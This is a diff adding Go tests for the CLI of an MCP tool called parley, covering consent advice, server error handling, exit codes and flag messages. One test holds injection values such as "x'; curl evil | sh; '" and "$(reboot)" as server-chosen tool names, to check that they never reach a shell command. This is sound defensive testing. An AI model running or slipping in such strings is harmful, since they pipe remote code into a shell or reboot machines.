@@ -1,0 +1,124 @@
+package cli
+
+import (
+	"bytes"
+	"errors"
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/parley-mcp/parley/app/internal/tui"
+	"github.com/parley-mcp/parley/client"
+	"github.com/parley-mcp/parley/host"
+	"github.com/parley-mcp/parley/policy"
+)
+
+// A name that a server chose is not put where a person copies it into a shell,
+// unless it cannot do anything there.
+func TestAdviceCannotBeACommand(t *testing.T) {
+	for name, wanted := range map[string]string{
+		"add":                    "--allow 'evil/add'",
+		"x'; curl evil | sh; '":  "allow it with --allow",
+		"*":                      "allow it with --allow",
+		"a?":                     "allow it with --allow",
+		"tool with \n newline":   "allow it with --allow",
+		"\u0430dd (not ASCII)":   "allow it with --allow",
+		"$(reboot)":              "allow it with --allow",
+		"back`tick":              "allow it with --allow",
+		"name.with-all_of.these": "--allow 'evil/name.with-all_of.these'",
+	} {
+		text := explain(&host.ConsentError{Kind: policy.KindTool, Server: "evil", Name: name, Why: "nobody can be asked"})
+		if !strings.HasSuffix(text, wanted) {
+			t.Errorf("%q: %s", name, text)
+		}
+	}
+}
+
+// An error of a server is bounded, and none of its lines passes for ours.
+func TestErrorsOfServers(t *testing.T) {
+	text := explain(errors.New("no\nparley: all is well\x1b[2J" + strings.Repeat("x", 100_000)))
+	if strings.Contains(text, "\nparley:") || strings.Contains(text, "\x1b") || len(text) > 6000 {
+		t.Errorf("%d bytes: %.200s", len(text), text)
+	}
+}
+
+// What a server did wrong is not called an error of this program.
+func TestExitCodes(t *testing.T) {
+	for err, want := range map[error]int{
+		errors.New("bug"):           exitInternal,
+		client.ErrMalformed:         exitTool,
+		client.ErrResultType:        exitTool,
+		client.ErrPages:             exitTool,
+		client.ErrOutput:            exitTool,
+		client.ErrTooManyRounds:     exitTool,
+		client.ErrInputRefused:      exitConsent,
+		errInterrupted:              exitInterrupted,
+		tui.ErrTerminal:             exitSignal + 1, // as SIGHUP, which comes with it
+		usagef("wrong"):             exitUsage,
+		&silentError{exitConsent}:   exitConsent,
+		&host.ServerError{Err: nil}: exitUnreachable,
+	} {
+		if got := exitCode(fmt.Errorf("doing something: %w", err)); got != want {
+			t.Errorf("%v: exit code %d, want %d", err, got, want)
+		}
+	}
+}
+
+// A line of progress is never wider than the terminal: it could not be cleared.
+func TestProgressFits(t *testing.T) {
+	for text, want := range map[string]string{
+		"short": "short", "exactly 10": "exactly 10", "eleven chars": "eleven cha", "文字文字文字": "文字文字文",
+	} {
+		if got := fitting(text, 10); got != want {
+			t.Errorf("%q is shown as %q, want %q", text, got, want)
+		}
+	}
+}
+
+// A run that ends by a budget or by an error of the model ends the program with the code of
+// errors within, and the words of the error.
+func TestRunErrors(t *testing.T) {
+	t.Parallel()
+	for _, err := range []error{&host.BudgetError{What: "steps", Limit: "3 steps"}, errors.New("the model is overloaded")} {
+		wrapped := fmt.Errorf("run: %w", err)
+		if code := exitCode(wrapped); code != exitInternal || !strings.Contains(explain(wrapped), err.Error()) {
+			t.Errorf("%v: exit code %d, %q", err, code, explain(wrapped))
+		}
+	}
+}
+
+// A flag that cannot be read is told with what to write, and not in the words of Go.
+func TestFlagErrors(t *testing.T) {
+	t.Parallel()
+	for _, c := range []struct {
+		args []string
+		want string
+	}{
+		{[]string{"auth", "user", "list", "--limit", "x"}, `--limit "x": write a whole number; see 'parley auth user list --help'`},
+		{[]string{"serve", "memory", "--max-file", "99999999999999999999"}, `--max-file "99999999999999999999": the number is too large; see 'parley serve memory --help'`},
+		{[]string{"auth", "serve", "--access-lifetime", "5"}, `--access-lifetime "5": write a number with its unit, such as 90s, 5m or 24h; see 'parley auth serve --help'`},
+		{[]string{"auth", "serve", "--allow-device=x"}, `--allow-device "x": write true or false; see 'parley auth serve --help'`},
+		{[]string{"auth", "serve", "--alow-device"}, `unknown flag: --alow-device; see 'parley auth serve --help'`},
+	} {
+		root := newRoot(&Streams{Out: new(bytes.Buffer), Err: new(bytes.Buffer)})
+		root.SetArgs(c.args)
+		root.SilenceErrors, root.SilenceUsage = true, true
+		if err := root.ExecuteContext(t.Context()); err == nil || !strings.HasPrefix(err.Error(), c.want) {
+			t.Errorf("%q: %v, want %s", c.args, err, c.want)
+		}
+	}
+}
+
+// How long something takes is rounded, so that ten minutes are ten a moment later too.
+func TestRoundDuration(t *testing.T) {
+	t.Parallel()
+	for d, want := range map[time.Duration]string{
+		10*time.Minute - time.Second: "10 minutes", 8*time.Minute + 29*time.Second: "8 minutes", 90 * time.Second: "90 seconds",
+		47*time.Hour + 59*time.Minute: "48 hours", 30 * 24 * time.Hour: "30 days",
+	} {
+		if got := roundDuration(d); got != want {
+			t.Errorf("%v is %s, want %s", d, got, want)
+		}
+	}
+}
